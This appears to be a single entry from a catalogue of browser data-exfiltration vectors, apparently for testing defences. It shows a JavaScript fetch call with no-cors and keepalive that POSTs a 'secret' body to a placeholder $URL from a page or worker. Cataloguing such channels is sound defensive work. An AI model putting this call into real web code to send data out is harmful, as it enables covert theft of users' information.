// vector: fetch with keepalive
// where: page, worker
fetch("$URL", { method: "POST", mode: "no-cors", keepalive: true, body: "secret" });
